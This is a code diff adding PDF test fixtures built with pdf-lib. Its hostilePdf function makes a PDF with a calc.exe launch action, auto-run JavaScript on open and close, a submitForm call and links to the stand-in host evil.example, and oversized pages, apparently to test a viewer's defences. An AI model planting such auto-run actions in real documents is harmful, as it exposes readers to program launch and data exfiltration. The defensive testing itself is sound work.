@@ -1,4 +1,14 @@
-import { PDFDocument, StandardFonts } from 'pdf-lib';
+import {
+  concatTransformationMatrix,
+  drawObject,
+  type PDFDict,
+  PDFDocument,
+  PDFName,
+  PDFString,
+  popGraphicsState,
+  pushGraphicsState,
+  StandardFonts,
+} from 'pdf-lib';
 
 const PARAGRAPH =
   'The landlord lets the flat to the tenant for use as a home. The rent falls due on the second day of each month. ' +
@@ -29,5 +39,66 @@ export async function contractPdf(pages = 3): Promise<Uint8Array> {
     }
     page.drawText(`Page ${number}`, { x: 280, y: 48, size: 10, font: serif });
   }
+  return pdf.save();
+}
+
+/** Everything that a document can do besides being read: scripts, launching programs, links, and pages out of all measure. */
+export async function hostilePdf(): Promise<Uint8Array> {
+  const pdf = await PDFDocument.create();
+  const { context } = pdf;
+  const script = (code: string) => context.obj({ S: 'JavaScript', JS: PDFString.of(code) });
+  const launch = context.obj({ S: 'Launch', F: PDFString.of('calc.exe'), NewWindow: true });
+  const link = context.obj({ S: 'URI', URI: PDFString.of('https://evil.example/') });
+
+  const page = pdf.addPage([400, 400]);
+  page.drawText('Harmless to look at', { x: 40, y: 300, size: 20 });
+  const annotation = (action: PDFDict, rect: number[]) =>
+    context.register(
+      context.obj({ Type: 'Annot', Subtype: 'Link', Rect: rect, A: action, Border: [0, 0, 2] }),
+    );
+  page.node.set(
+    PDFName.of('Annots'),
+    context.obj([
+      annotation(launch, [40, 40, 180, 120]),
+      annotation(link, [200, 40, 360, 120]),
+      annotation(script('app.launchURL("https://evil.example/")'), [40, 140, 360, 280]),
+    ]),
+  );
+  page.node.set(PDFName.of('AA'), context.obj({ O: script('app.alert("page opened")') }));
+  pdf.catalog.set(
+    PDFName.of('OpenAction'),
+    script('app.alert("opened"); this.submitForm("https://evil.example/")'),
+  );
+  pdf.catalog.set(PDFName.of('AA'), context.obj({ WC: script('app.alert("closing")') }));
+
+  pdf.addPage([14_400, 14_400]).drawText('Far too large', { x: 1000, y: 7000, size: 900 });
+  pdf.addPage([3, 14_400]);
+  return pdf.save();
+}
+
+/** A scan as fax machines and scanners make it: a black square in CCITT G4, which pdf.js decodes with WebAssembly. */
+export async function scannedPdf(): Promise<Uint8Array> {
+  const pdf = await PDFDocument.create();
+  const page = pdf.addPage([200, 200]);
+  // White 0, black 64; then "as the line above" for 63 lines; then the end of the block.
+  const bits = `001${'00110101'}${'0000001111'}${'0000110111'}${'11'.repeat(63)}${'000000000001'.repeat(2)}`;
+  const bytes = bits.match(/.{1,8}/g)?.map((byte) => Number.parseInt(byte.padEnd(8, '0'), 2)) ?? [];
+  const image = pdf.context.stream(Uint8Array.from(bytes), {
+    Type: 'XObject',
+    Subtype: 'Image',
+    Width: 64,
+    Height: 64,
+    BitsPerComponent: 1,
+    ColorSpace: 'DeviceGray',
+    Filter: 'CCITTFaxDecode',
+    DecodeParms: { K: -1, Columns: 64, Rows: 64 },
+  });
+  const name = page.node.newXObject('Scan', pdf.context.register(image));
+  page.pushOperators(
+    pushGraphicsState(),
+    concatTransformationMatrix(200, 0, 0, 200, 0, 0),
+    drawObject(name),
+    popGraphicsState(),
+  );
   return pdf.save();
 }
